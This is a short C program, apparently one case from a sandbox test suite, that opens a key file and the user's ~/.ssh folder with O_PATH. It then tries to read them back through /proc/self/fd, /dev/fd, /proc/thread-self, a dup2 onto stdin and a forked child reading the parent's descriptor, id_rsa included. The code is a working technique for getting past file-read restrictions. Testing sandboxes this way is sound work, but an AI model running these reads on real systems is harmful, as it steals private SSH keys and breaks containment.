// Opens the key by O_PATH, which reads nothing, then opens that descriptor's link in /proc and /dev.
// class: Deno: /dev/fd; OS sandboxes: O_PATH reopened
// plain: leak
// journal: read {KEY}
#include "attack.h"

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const int file = open(fact("KEY"), O_PATH);
  const int folder = open(text("%s/.ssh", fact("HOME")), O_PATH);
  printf("descriptors %d %d\n", file, folder);
  read_path(text("/proc/self/fd/%d", file));
  read_path(text("/dev/fd/%d", file));
  read_path(text("/proc/thread-self/fd/%d", file));
  read_path(text("/proc/%d/fd/%d", getpid(), file));
  read_path(text("/proc/self/fd/%d/id_rsa", folder));
  read_path(text("/dev/fd/%d/../.ssh/id_rsa", folder));
  dup2(file, 0);
  read_path("/dev/stdin");
  if (fork() == 0) {
    read_path(text("/proc/%d/fd/%d", getppid(), file));
    _exit(0);
  }
  wait(NULL);
  return 0;
}
